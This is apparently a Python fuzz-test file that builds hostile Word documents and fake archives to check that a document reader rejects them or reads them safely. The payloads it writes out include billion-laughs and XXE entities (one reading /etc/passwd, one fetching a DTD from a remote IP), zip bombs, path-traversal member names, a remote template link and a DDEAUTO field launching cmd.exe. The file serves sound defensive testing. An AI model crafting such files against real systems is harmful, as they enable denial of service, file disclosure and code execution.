"""Bad Word files, and archives that call themselves so."""

import random

from tests.fuzz.containers import FRENCH, OFFICE, PACKAGE, docx, html, word_paragraph, zipped
from tests.fuzz.hostile_case import READ, Hostile

BODY = word_paragraph(FRENCH)
DECLARED = "<!DOCTYPE x [{}]>"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
"""A billion laughs: each entity is ten of the one before it."""


def _with_entities(declared: str, used: str) -> bytes:
    """A document whose XML declares entities."""
    whole = f'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{BODY}'
    return docx(
        "",
        {
            "word/document.xml": f"{DECLARED.format(declared)}{whole}<w:p><w:r><w:t>{used}</w:t></w:r></w:p></w:body></w:document>"
        },
    )


def _large() -> bytes:
    """60 MB that pack to about a hundredth, which is no more than the ratio allows."""
    chance = random.Random(0)
    return zipped({"word/document.xml": b"".join(chance.randbytes(100) + b" " * 9900 for _ in range(6000))})


def _bomb(size: int = 4_000_000) -> bytes:
    return zipped({"word/document.xml": b" " * size})


def _relation(kind: str, target: str, mode: str = "") -> dict[str, str | bytes]:
    """The relations of the main part: one."""
    relation = f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    return {
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">{relation}</Relationships>'
    }


EXTERNAL = ' TargetMode="External"'
FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>résultat</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)

WORD_FILES = [
    Hostile("a billion laughs", "a.docx", lambda: _with_entities(f'<!ENTITY l0 "ha">{LAUGHS}', "&l9;"), "E125 The file is damaged or no Word document: word/document.xml has a document type declaration."),
    Hostile("an entity of 100,000 characters, used 1,000 times", "a.docx", lambda: _with_entities(f'<!ENTITY l "{"a" * 100_000}">', "&l;" * 1000), "E125 The file is damaged or no Word document: word/document.xml has a document type declaration."),
    Hostile("an entity that is a file", "a.docx", lambda: _with_entities('<!ENTITY l SYSTEM "file:///etc/passwd">', "&l;"), "E125 The file is damaged or no Word document: word/document.xml has a document type declaration."),
    Hostile("an entity that is fetched from the net", "a.docx", lambda: _with_entities('<!ENTITY % l SYSTEM "http://192.0.2.1/x.dtd"> %l;', "x"), "E125 The file is damaged or no Word document: word/document.xml has a document type declaration."),
    Hostile("laughs in the numbering", "a.docx", lambda: docx(BODY, {"word/numbering.xml": f'{DECLARED.format(LAUGHS)}<a>&l9;</a>'}), "E125 The file is damaged or no Word document: word/numbering.xml has a document type declaration."),
    Hostile("a part that unpacks to a thousand times its size", "a.docx", _bomb, "E126 The file unpacks to more than is allowed: word/document.xml says to have 4000000 bytes, 1048576 are allowed."),
    Hostile("a part that unpacks to 60 MB", "a.docx", _large, "E126 The file unpacks to more than is allowed: word/document.xml says to have 60000000 bytes, 52428800 are allowed."),
    Hostile("5,001 members", "a.docx", lambda: docx(BODY, {f"word/media/{n}": "" for n in range(5001)}), "E126 The file unpacks to more than is allowed: 5007 members, the limit is 5000."),
    Hostile("a bomb inside, as an embedded file", "a.docx", lambda: docx(BODY, {"word/embeddings/a.docx": _bomb(), "word/media/a.zip": zipped({"a.zip": _bomb()})}), READ),
    Hostile("a bomb in place of the document", "a.docx", lambda: docx(BODY, {"word/document.xml": _bomb()}), "E125 The file is damaged or no Word document: word/document.xml: Start tag expected, '<' not found, line 1, column 1."),
    Hostile("members named ../../x, /x and C:\\x", "a.docx", lambda: docx(BODY, {"../../x": "x", "/etc/x": "x", "C:\\x": "x", "word/../../x": "x"}), READ),
    Hostile("notes that stand in a file outside", "a.docx", lambda: docx(BODY, _relation("footnotes", "../../../etc/passwd")), READ),
    Hostile("a template on another machine", "a.docx", lambda: docx(BODY, _relation("attachedTemplate", "http://192.0.2.1/x.dotm", EXTERNAL)), READ),
    Hostile("macros", "a.docm", lambda: docx(BODY, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), READ),
    Hostile("a field that starts a program", "a.docx", lambda: docx(BODY + FIELD.format("DDEAUTO cmd.exe /c calc")), READ, f"{FRENCH}\n\nrésultat"),
    Hostile("cut off behind its first half", "a.docx", lambda: (data := docx(BODY))[: len(data) // 2], "E125 The file is damaged or no Word document: File is not a zip file."),
    Hostile("without its directory", "a.docx", lambda: docx(BODY).replace(b"PK\x01\x02", b"PK\x09\x09"), "E125 The file is damaged or no Word document: Bad magic number for central directory."),
    Hostile("elements nested 300 deep", "a.docx", lambda: docx(BODY + "<w:sdt><w:sdtContent>" * 150 + "</w:sdtContent></w:sdt>" * 150), "E125 The file is damaged or no Word document: word/document.xml: Excessive depth in document: 256, use XML_PARSE_HUGE option, line 1, column 3080."),
    Hostile("XML that is not closed", "a.docx", lambda: docx(BODY + "<w:p>"), "E125 The file is damaged or no Word document: word/document.xml: Opening and ending tag mismatch: p line 1 and body, line 1, column 421."),
    Hostile("no document inside", "a.docx", lambda: docx("", {"word/document.xml": "<a/>"}), "E125 The file is damaged or no Word document: word/document.xml is no document."),
    Hostile("another archive", "a.docx", lambda: zipped({"a.txt": FRENCH}), "E106 Files of type .zip cannot be read; PDF, DOCX, HTML and plain text can."),
    Hostile("an archive that is called text", "decision.txt", lambda: zipped({"a.txt": FRENCH}), "E106 Files of type .zip cannot be read; PDF, DOCX, HTML and plain text can."),
    Hostile("a web page that is called a Word file", "a.docx", lambda: html(f"<p>{FRENCH}"), READ),
    Hostile("text that is called a Word file", "a.docx", FRENCH.encode, "E125 The file is damaged or no Word document: File is not a zip file."),
]  # fmt: skip
